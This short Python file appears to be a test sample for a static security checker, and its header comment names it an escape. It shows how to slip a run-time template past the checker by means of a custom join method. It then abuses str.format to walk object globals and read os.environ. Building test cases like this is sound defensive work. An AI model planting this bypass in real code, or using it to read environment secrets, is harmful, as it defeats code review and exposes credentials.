# family: format
# Escape: any `x.join(NAME)` counts as a read-only use of NAME (checker._READERS treats every .join as
# str.join), so the tool's own Joiner.join can append a run-time template to the "table of literals"
# TEMPLATES, which templates.py then trusts for str.format: the field walks random.Random.__init__.__globals__
# to os.environ.
import random


class Joiner:
    def __init__(self, extra):
        self.extra = extra

    def join(self, parts):
        parts.append(self.extra)
        return ""


TEMPLATES = ["{0}"]


def tool(word: str = "globals", var: str = "HOME") -> str:
    u = "_" * 2
    Joiner("{0." + u + "init" + u + "." + u + word + u + "[_os].environ[" + var + "]}").join(TEMPLATES)
    return TEMPLATES[-1].format(random.Random())
